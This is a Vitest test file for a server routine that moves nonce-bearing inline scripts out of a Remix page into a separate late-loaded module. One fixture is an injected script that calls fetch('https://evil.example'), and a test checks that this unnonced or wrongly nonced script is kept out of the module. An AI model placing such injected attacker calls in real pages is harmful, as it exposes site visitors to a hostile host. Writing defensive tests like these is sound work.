/** A kept page and the module beside it: nothing of ours is lost, and nothing of others gets in. */
import { expect, test } from 'vitest';
import { keepLateModule, lateModuleOf, takeScriptsOut } from './late-module.server';

const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
const INJECTED = 'window.__remixContext = fetch("https://evil.example")';
const page = [
  '<html><body><link rel="x-late" href="/assets/root.js"/><link rel="x-late" href="/assets/home.js"/>',
  `<script nonce="${NONCE}">colour()</script>`,
  `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
  `<script nonce="${NONCE}">window.__remixContext = {"a":1};</script>`,
  `<script nonce="${NONCE}" type="text/late" async="">import * as route0 from "/assets/root.js";\nimport * as route1 from "/assets/home.js";\nwindow.__remixRouteModules = {"root":route0};\n\nimport("/assets/entry.js");</script>`,
  `<script nonce="${NONCE}">window.__remixContext.streamController.enqueue("data");</script>`,
  '</body></html>',
].join('');

test('the page keeps every element, and none of the scripts’ text', () => {
  const { html } = takeScriptsOut(page, NONCE, '/');
  expect(html.match(/<\w+/g)).toEqual(page.match(/<\w+/g));
  expect(html).toContain('colour()');
  expect(html).not.toContain('/assets/');
  expect(html).not.toContain('"data"');
});

test('the module has it all: preloads, data in its order, routes, start', () => {
  const { module } = takeScriptsOut(page, NONCE, '/');
  const order = [
    '"/assets/root.js","/assets/home.js"',
    '{"a":1}',
    'enqueue("data")',
    'import("/assets/root.js"),import("/assets/home.js")',
    '([route0,route1])',
    '__remixRouteModules',
    'import("/assets/entry.js")',
  ];
  const places = order.map((part) => module!.text.indexOf(part));
  expect(places).not.toContain(-1);
  expect(places).toEqual([...places].sort((a, b) => a - b));
  expect(module!.text).not.toMatch(/^import \*/m);
});

test('a script that is not ours never becomes part of it', () => {
  const { html, module } = takeScriptsOut(page, NONCE, '/');
  expect(module!.text).not.toContain('evil.example');
  expect(html.split(INJECTED)).toHaveLength(3);
});

test('the page names its module, by what is in it and by the key of the page', () => {
  const { html, module } = takeScriptsOut(page, NONCE, '/ar/projects?page=2&order=newest"');
  expect(module!.path).toMatch(/^\/late\/[\w-]{22}\.js\?of=%2Far%2Fprojects/);
  const named = /data-src="([^"]*)"/.exec(html)![1]!.replaceAll('&amp;', '&');
  expect(named).toBe(module!.path);
  const other = takeScriptsOut(page.replace('"data"', '"news"'), NONCE, '/').module;
  expect(other!.path).not.toBe(takeScriptsOut(page, NONCE, '/').module!.path);
});

test('a page without scripts stays as it is', () => {
  expect(takeScriptsOut('<p>light</p>', NONCE, '/')).toEqual({
    html: '<p>light</p>',
    module: null,
  });
});

test('the module goes with its answer', () => {
  const response = new Response();
  expect(lateModuleOf(response)).toBeNull();
  keepLateModule(response, { path: '/late/x.js', text: '' });
  expect(lateModuleOf(response)).toEqual({ path: '/late/x.js', text: '' });
});

test('one visitor’s own page has an address that is made of chance alone', () => {
  const paths = [1, 2].map(() => takeScriptsOut(page, NONCE, 'own').module!.path);
  for (const path of paths) expect(path).toMatch(/^\/late\/own-[\w-]{22}\.js$/);
  expect(new Set(paths).size).toBe(2);
});
